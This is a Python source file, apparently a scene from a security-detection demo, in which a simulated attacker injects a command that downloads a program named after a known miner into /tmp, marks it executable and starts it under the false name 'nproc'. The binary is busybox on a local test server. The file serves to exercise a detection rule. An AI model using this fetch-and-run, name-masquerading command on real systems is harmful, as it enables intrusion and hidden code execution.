"""A program that the image does not hold, fetched through the hole and started under a harmless name."""

from tracetide.demo.scenes.scene import Scene
from tracetide.demo.stage import Stage

_PORT = 8000

# Named after a well-known miner, which is named after a kernel thread. It is a copy of busybox, and does as
# its nproc: a miner's first question.
_DROPPED = "/tmp/kdevtmpfsi"  # noqa: S108  # a path in the container


async def _act(stage: Stage) -> str:
    await stage.attacker.serve(_PORT)
    answer = await stage.attacker.inject(
        f"/usr/bin/wget -q -O {_DROPPED} http://127.0.0.1:{_PORT}/kdevtmpfsi"
        f" && /bin/chmod +x {_DROPPED} && (exec -a nproc {_DROPPED})"
    )
    processors = answer.rpartition("\n")[2]
    return f"{_DROPPED} runs and has found {processors} processors to work with"


SCENE = Scene(
    name="dropped-binary",
    title="A dropped program runs",
    story="Through the same hole, the attacker downloads a program into /tmp and starts it.",
    rules=frozenset({"Dropped program run in a container"}),
    act=_act,
)
